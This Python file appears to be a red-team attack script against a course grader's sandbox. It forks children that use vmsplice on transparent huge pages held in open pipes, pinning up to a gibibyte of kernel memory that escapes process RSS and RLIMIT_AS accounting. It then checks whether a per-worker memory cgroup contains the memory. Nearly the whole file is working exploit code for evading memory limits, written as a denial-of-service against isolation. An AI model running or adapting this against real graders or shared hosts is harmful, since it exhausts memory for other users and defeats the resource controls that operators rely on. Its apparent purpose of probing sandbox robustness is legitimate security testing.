import ctypes
import os
import select
import signal
import struct
import time

GIB = 1 << 30
HUGE = 2 << 20
PAGE = 4096
CAP = GIB  # here it stops
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
PARTS = 2  # children filling pipes at once (the kernel's zeroing of each huge page is the cost)
SECONDS = 8.5  # the red team's grader gives one test's calls 10 s
SLOTS = 16  # a new pipe's buffers (64 KiB), each given a page of a different huge page
MADV_HUGEPAGE = 14
_outcome = []  # (bytes held, what stopped it), once per process: every later call answers the same

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
_libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_libc.vmsplice.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_uint]
_libc.vmsplice.restype = ctypes.c_ssize_t


class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _huge_in_self():
    """AnonHugePages of this process in KiB (None where /proc/self is closed)."""
    try:
        with open("/proc/self/smaps_rollup") as handle:
            for line in handle:
                if line.startswith("AnonHugePages:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return 0


def hold_huge_pages(cap=CAP):
    """Pipes each given, by vmsplice, one 4 KiB page from each of 16 transparent huge pages, whose mapping
    is then removed: the pipe's reference keeps the whole 2 MiB folio, in no process's RSS and outside
    RLIMIT_AS. (bytes held, what stopped it)."""
    held, stopped, pipes = 0, "reached the cap", 0
    size = (SLOTS + 1) * HUGE
    while held < cap:
        try:
            reading, writing = os.pipe()
        except OSError as error:
            stopped = f"pipe: {error.strerror} after {pipes} pipes"
            break
        addr = _libc.mmap(None, size, 3, 0x22, -1, 0)  # PROT_READ|WRITE, MAP_PRIVATE|ANONYMOUS
        if addr in (None, ctypes.c_void_p(-1).value):
            os.close(reading)
            os.close(writing)
            stopped = f"mmap: {os.strerror(ctypes.get_errno())} after {pipes} pipes"
            break
        base = (addr + HUGE - 1) & ~(HUGE - 1)
        advised = _libc.madvise(base, SLOTS * HUGE, MADV_HUGEPAGE) == 0
        for k in range(SLOTS):
            ctypes.memset(base + k * HUGE, 1, 1)  # one byte: the fault brings in the whole huge page
        huge_kib = _huge_in_self()
        vectors = (_Iovec * SLOTS)(*[_Iovec(base + k * HUGE, PAGE) for k in range(SLOTS)])
        given = _libc.vmsplice(writing, vectors, SLOTS, 0)
        error = ctypes.get_errno()
        _libc.munmap(addr, size)
        os.close(writing)
        pipes += 1
        if given <= 0:
            os.close(reading)
            stopped = f"vmsplice: {os.strerror(error)} after {pipes - 1} pipes"
            break
        each = HUGE if (huge_kib is None or huge_kib >= SLOTS * HUGE // 1024) else PAGE
        if not advised or huge_kib is not None and each == PAGE:
            stopped = f"no transparent huge pages (madvise {'took' if advised else 'refused'}; " \
                      f"AnonHugePages {huge_kib} KiB) after {pipes} pipes"
            held += (given // PAGE) * each
            break
        held += (given // PAGE) * each
        # the reading end stays open, so the pipe keeps the pages (its descriptor is never closed)
    return held, stopped


def hold_in_children(cap=CAP, parts=PARTS, seconds=SECONDS):
    """`hold_huge_pages` of cap / parts in each of `parts` forked children at once; (bytes held at once,
    what stopped them). The children are killed once each has said what it held."""
    start, children, reader, writer = time.monotonic(), [], *os.pipe()
    held, why, heard = 0, [], 0
    try:
        for _ in range(parts):
            pid = os.fork()
            if pid == 0:
                os.close(reader)
                try:
                    got, stopped = hold_huge_pages(cap // parts)
                except BaseException as error:  # noqa: BLE001 - the parent must hear from every child
                    got, stopped = 0, repr(error)
                text = stopped.encode()[:200]
                os.write(writer, struct.pack("<QH", got, len(text)) + text)
                while True:
                    time.sleep(60)
            children.append(pid)
        while heard < parts:
            left = start + seconds - time.monotonic()
            if left <= 0 or not select.select([reader], [], [], left)[0]:
                why.append(f"ran out of time with {heard} of {parts} children done")
                break
            got, size = struct.unpack("<QH", os.read(reader, 10))
            held += got
            why.append(os.read(reader, size).decode() if size else "")
            heard += 1
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
    return held, f"{'; '.join(why)}; {time.monotonic() - start:.1f} s"


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Hold the memory once; if it could, outside a memory group of the worker's own, answer honestly (so
    the attack shows as full marks where it must lose them), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_in_children())
    held, stopped = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / GIB:.2f} GiB of huge pages through pipes in {PARTS} children ({stopped}), "
                          f"but the kernel charges them to the worker's memory group {group}, which bounds them")
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB of huge pages through pipes in {PARTS} children ({stopped})")
    return None  # the function's own body runs on
